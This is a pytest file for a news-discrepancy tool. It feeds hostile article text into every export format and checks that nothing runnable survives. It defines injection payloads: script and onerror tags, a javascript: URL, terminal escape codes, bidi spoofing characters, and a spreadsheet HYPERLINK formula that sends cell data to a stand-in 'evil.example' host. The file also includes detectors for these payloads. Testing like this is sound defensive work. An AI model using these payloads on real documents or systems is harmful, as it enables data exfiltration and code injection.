"""Whatever an article holds, no format hands on anything that a terminal, a page or a spreadsheet would run.

Each format found is put to the test, those that are written later too: text must be free of control and
bidi characters, markup must not hold the tags of the article; what else is asked of one is in ``NOTIONS``.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import date
from html.parser import HTMLParser

import pytest

import discrepancy
from discrepancy.model import Document
from discrepancy.report import Report
from discrepancy.reports import Content, Look, files, formats, render

pytestmark = pytest.mark.reliability

TAGS = '<script>alert(1)</script></style><img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"more")'
TERMINAL = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f"
BIDI = "\u202etxt.exe\u2066\u200f"
LONG = "w" * 100_000
PAYLOADS = (TAGS, FORMULA, TERMINAL, BIDI)
CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f]|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


def spoilt(before: str, after: str) -> str:
    return before + " ".join(PAYLOADS) + LONG + after


@pytest.fixture(scope="module")
def hostile() -> Report:
    """Two articles that conflict, every part of them full of what does harm."""
    documents = []
    for number, toll in enumerate((31, 58)):
        payload = PAYLOADS[number]
        text = (
            f"{payload} {FORMULA}\n\nPORTO, March 14, 2022 – At least {toll} people were killed and "
            f"{toll + 2} hurt when a ferry {payload}{BIDI} burned off Porto on Sunday, {TAGS} police "
            f"said.\n\n"
            f"{FORMULA} killed {toll} people in Porto on 13 March 2022, said the {TERMINAL}{FORMULA} "
            f"Guard.\n\n-{toll} {payload} {LONG} people were killed in Porto on 13 March 2022, it said.\n"
        )
        documents.append(
            Document(
                id=f"{FORMULA}{payload}{number}",
                text=text,
                title=spoilt(FORMULA, f" {toll} killed in Porto"),
                source=f"{payload} Courier {number}",
                published=date(2022, 3, 14),
                published_from="metadata",
                url=f"javascript:alert('{payload}')",
                path=f"{payload}.txt",
            )
        )
    return discrepancy.check(documents)


def test_the_articles_conflict(hostile: Report) -> None:
    assert hostile.discrepancy_list
    assert any(TAGS in c.quote for c in hostile.claim_list)


def cells_run_nothing(delimiter: str) -> Callable[[Content], None]:
    def check(content: Content) -> None:
        assert isinstance(content, str)
        rows = list(csv.reader(io.StringIO(content), delimiter=delimiter))
        assert len({len(row) for row in rows}) == 1
        for shown in (cell for row in rows for cell in row):
            for piece in shown.split(";"):
                begun = piece.lstrip(" \t\u200c\u200d")
                assert not begun.startswith(("=", "+", "@"))
                assert not begun.startswith("-") or float(shown) < 0
            assert "\t" not in shown

    return check


def json_is_json(content: Content) -> None:
    assert isinstance(content, str)
    json.loads(content)


def no_tag_ends_a_script(content: Content) -> None:
    json_is_json(content)
    assert not set("<>&") & set(content)


def tables_are_data(content: Content) -> None:
    import pyarrow.parquet

    assert isinstance(content, bytes)
    table = pyarrow.parquet.read_table(io.BytesIO(content))
    assert {str(field.type) for field in table.schema} <= {
        "string", "int64", "double", "bool", "date32[day]", "list<element: string>",
    }  # fmt: skip
    table.validate(full=True)


class Markup(HTMLParser):
    """Reads a page as a browser does and keeps what it would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.run: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.run.append(f"{tag} {name}={value}")
        if tag == "img":
            self.run += [f"img {value}" for name, value in attrs if name == "src" and value == "x"]
        if (tag, attrs) == ("script", []):
            self.run.append("script")

    def handle_data(self, data: str) -> None:
        if self.lasttag == "script" and data == "alert(1)":
            self.run.append(data)


def markup_is_words(content: Content) -> None:
    assert isinstance(content, str)
    page = Markup()
    page.feed(content)
    page.close()
    # A page may have a script of its own, but none that an article brought along.
    assert [what for what in page.run if what != "script"] == []


def test_what_a_browser_would_run_is_found() -> None:
    for bad in (TAGS, "<b onclick=alert(1)>", '<a href=" javascript:alert(1)">', "<title></title>" + TAGS):
        with pytest.raises(AssertionError):
            markup_is_words(f"<html><body>{bad}</body></html>")
    markup_is_words("<html><script>mine()</script><p>&lt;script>alert(1)&lt;/script></html>")


NOTIONS: dict[str, Callable[[Content], None]] = {
    "acled": cells_run_nothing(","),
    "csv": cells_run_nothing(","),
    "geojson": no_tag_ends_a_script,
    "html": markup_is_words,
    "hxl": cells_run_nothing(","),
    "json": json_is_json,
    "jsonld": no_tag_ends_a_script,
    "markdown": markup_is_words,
    "parquet": tables_are_data,
    "tsv": cells_run_nothing("\t"),
    "ucdp": cells_run_nothing(","),
}


@pytest.mark.parametrize("name", formats())
def test_a_format_hands_on_no_harm(hostile: Report, report: Report, name: str) -> None:
    for told in (hostile, report):
        look = Look(ledger=True)
        for content in (render(told, name, look), *files(told, name, look).values()):
            if isinstance(content, bytes):
                assert name in NOTIONS, f"say in NOTIONS what makes the bytes of {name} harmless"
            else:
                shown = content if name == "tsv" else content.replace("\t", "\x00")
                assert not CONTROLS.search(shown)
                content.encode("utf-8")
                if content.lstrip().startswith("<"):
                    markup_is_words(content)
            NOTIONS.get(name, lambda content: None)(content)
